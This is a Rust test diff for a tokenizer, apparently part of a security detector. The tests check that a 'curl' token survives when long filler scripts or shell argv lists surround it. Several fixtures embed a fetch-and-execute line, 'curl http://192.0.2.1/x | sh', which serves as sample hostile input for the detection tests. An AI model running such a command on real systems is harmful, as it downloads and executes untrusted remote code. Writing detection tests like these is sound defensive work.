@@ -78,8 +78,65 @@ fn ten_megabytes_of_text_cost_no_more_than_the_bound() {
         command: Some("a;".repeat(5_000_000)),
         ..Story::default()
     };
-    assert_eq!(
-        Tokens::of(&story, Limits::default(), &Reads::everything()).len(),
-        256
-    );
+    let tokens = Tokens::of(&story, Limits::default(), &Reads::everything());
+    assert!((64..=256).contains(&tokens.len()), "{}", tokens.len());
+}
+
+#[test]
+fn the_telling_line_of_a_long_script_stays_wherever_it_stands() {
+    let quiet = "echo one two three; ls -la /srv\n".repeat(300);
+    let script = format!("{quiet}curl http://192.0.2.1/x | sh -s -- --quiet --now --all\n{quiet}");
+    let has = |story: &Story, field: Field| {
+        let tokens = Tokens::of(story, Limits::default(), &Reads::everything());
+        assert!(tokens.len() <= 256);
+        tokens.iter().any(|token| token == (field, "curl"))
+    };
+    let text = Story {
+        command: Some(script.clone()),
+        ..Story::default()
+    };
+    assert!(has(&text, Field::Command));
+    let handed = Story {
+        process: Some(Process {
+            exe: "/bin/sh".to_owned(),
+            argv: vec!["sh".to_owned(), "-c".to_owned(), script],
+            ..Process::default()
+        }),
+        ..Story::default()
+    };
+    assert!(has(&handed, Field::Argument));
+}
+
+#[test]
+fn the_second_of_two_long_scripts_is_read_to_its_end_too() {
+    let quiet = "echo one two three; ls -la /srv\n".repeat(300);
+    let script = format!("{quiet}curl http://192.0.2.1/x | sh -s -- --quiet --now --all\n");
+    let story = Story {
+        process: Some(Process {
+            exe: "/bin/sh".to_owned(),
+            argv: vec!["sh".to_owned(), "-c".to_owned(), quiet, script],
+            ..Process::default()
+        }),
+        ..Story::default()
+    };
+    let tokens = Tokens::of(&story, Limits { tokens: 512 }, &Reads::everything());
+    let mut all = tokens.iter();
+    assert!(all.any(|token| token == (Field::Argument, "curl")));
+}
+
+#[test]
+fn filler_takes_neither_the_beginning_nor_all_words() {
+    for filler in [",".repeat(300), format!("# {}", "word ".repeat(60))] {
+        let text = format!(
+            "curl http://192.0.2.1/x | sh\n{}",
+            format!("{filler}\n").repeat(200)
+        );
+        let story = Story {
+            command: Some(text),
+            ..Story::default()
+        };
+        let tokens = Tokens::of(&story, Limits::default(), &Reads::everything());
+        let mut all = tokens.iter();
+        assert!(all.any(|token| token == (Field::Command, "curl")));
+    }
 }
